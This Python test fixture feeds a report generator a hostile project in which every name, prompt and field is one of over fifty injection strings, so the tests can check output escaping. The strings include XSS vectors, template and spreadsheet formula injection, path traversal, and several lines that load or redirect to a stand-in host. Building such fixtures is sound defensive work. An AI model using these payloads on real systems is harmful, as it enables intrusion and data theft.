"""A project in which every name, prompt, card, licence, reason and sentence tries to run code."""

import hashlib

from PIL import Image

from report.fixture import build
from whichlora.findings import (
    CandidateFacts,
    CapabilityFact,
    Estimate,
    Findings,
    Option,
    Recommendation,
)
from whichlora.report.model import ReportInput
from whichlora.types import BaseModel, Candidate, Cell, EditCase, Generation, Plan, Score, SourceImage

__all__ = ["PAYLOADS", "build", "build_hostile"]

RUN = "window.hit=1"
"""What every payload would do if it ran."""

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/b)}</style>",
    "<form action=https://evil.example><button autofocus>x</button></form>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"`;{RUN};//",
    f"');{RUN};//",
    f'");{RUN};//',
    f"\\');{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"{{{{ {RUN} }}}}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    f"${{{RUN}}}",
    "<!--<script>",
    "]]><script>",
    f"\u2028{RUN}\u2029{RUN}",
    "\x00\x1b[31m\x07",
    "\ud800 lone surrogate",
    "\u202egnp.exe",
    "__proto__",
    "constructor",
    "toString",
    "$\\frac{1}{0}$ $",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "| a | b |\n| - | - |",
    "[x](javascript:window.hit=1)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/bare",
    "``` `code` ```",
    "# heading\n- list\n> quote",
    "../../../etc/passwd",
    "CON.png",
    "name" * 60,
    "🧑‍🎨 نام 名前 имя",
    "%s %d %n",
    "[bold red]rich[/]",
    "\\[x]",
    " ",
    "​",
]
"""More than fifty attacks on HTML, scripts, templates, Markdown, mathematics, spreadsheets and terminals."""


def build_hostile(folder):
    """One candidate and one case per payload, a picture for each pair; every other text is a payload too."""
    picture = Image.new("RGB", (24, 24), (90, 120, 140))
    digest = hashlib.sha256(picture.tobytes()).hexdigest()
    picture.save(folder / f"{digest}.png")
    picture.save(folder / "photo.png")
    names = ["base", *dict.fromkeys(PAYLOADS)]
    base = BaseModel(PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], "f" * 8)
    candidates = tuple(Candidate(name, role="base" if not n else "candidate") for n, name in enumerate(names))
    cases = tuple(EditCase(f"{n}{text}", PAYLOADS[6], text, text, text, {}) for n, text in enumerate(names))
    cells = tuple(Cell(f"cell{n}{name}", name, f"{n}{name}", n) for n, name in enumerate(names))
    cells += tuple(Cell(f"base{n}{name}", "base", f"{n}{name}", n) for n, name in enumerate(names) if n)
    generations = {cell.id: Generation(cell.id, "done", digest, {"total": 1.0}, 1) for cell in cells}
    broken = cells[5]
    generations[broken.id] = Generation(broken.id, "failed", None, {}, 0, PAYLOADS[7])
    generations[cells[7].id] = Generation(cells[7].id, "done", "../../" + PAYLOADS[8], {}, 0)  # a hash that is none
    scores = {
        cell.id: (
            Score(cell.id, PAYLOADS[9], 1, None, PAYLOADS[10], None, "edit", PAYLOADS[11]),
            Score(
                cell.id, "identity/x", 1, 0.5, "", True, "identity", "", {"regions": [["<b>", 1, 2, 3], [1, 1, 4, 4]]}
            ),
        )
        for cell in cells
    }
    source = SourceImage(PAYLOADS[6], "photo.png", "0" * 64, 24, 24)
    plan = Plan(PAYLOADS[0], base, candidates, (source,), (), (), cases, cells, (), "figure", (), 0.7, {})
    given = ReportInput(
        _findings(names, cells),
        plan,
        generations,
        scores,
        lambda d: folder / f"{d}.png",
        lambda n: folder / "photo.png",
    )
    return given


def _findings(names, cells):
    text = iter(PAYLOADS * 40)
    few = lambda count: tuple(next(text) for _ in range(count))  # noqa: E731
    rows = tuple(
        CandidateFacts(
            name,
            "base" if not n else "candidate",
            Estimate(0.5, 0.2, 0.8, 0.4, 0.6, note=next(text)),
            0.4,
            0.6,
            {
                next(text) if n == 2 else "camera": CapabilityFact("camera", "OPEN", Estimate(0.5, 0.2, 0.8)),
                names[n % 60]: CapabilityFact("x", "PASS", Estimate(None)),
            },
            0.01 * n % 1,
            0.9,
            None,
            None,
            {next(text): 1},
            {"planned": 1},
            {next(text): 0.5},
            1.0,
            1.0,
            0.5,
            few(2),
            few(2),
            (cells[n].id,),
            (cells[n].id,),
            next(text),
            f"{name}\n\n{next(text)} **{next(text)}**",
            None,
        )
        for n, name in enumerate(names)
    )
    options = tuple(
        Option(kind, next(text), next(text), few(2), few(2), few(2), next(text), next(text), next(text))
        for kind in ("existing", "multi", "custom", "hybrid")
    )
    chosen = Recommendation(
        "existing",
        None,
        PAYLOADS[0],
        True,
        next(text),
        few(3),
        few(3),
        next(text),
        options,
        few(3),
        {names[4]: names[5]},
    )
    return Findings(
        PAYLOADS[0],
        next(text),
        0.7,
        (names[9],),
        1,
        rows,
        tuple({"name": a, "reason": b} for a, b in zip(few(9), few(9), strict=True)),
        chosen,
        dict.fromkeys(PAYLOADS[:30], (cells[3].id, "no such cell")),
        few(5),
        tuple({"question": a, "default": a, "reason": a, "flag": a} for a in few(5)),
        {payload: {payload: payload} for payload in PAYLOADS}
        | {
            "command": PAYLOADS[2],
            "survey": [{"repo_id": p, "training": {p: p}} for p in PAYLOADS],
            "training": list(PAYLOADS),
        },
    )
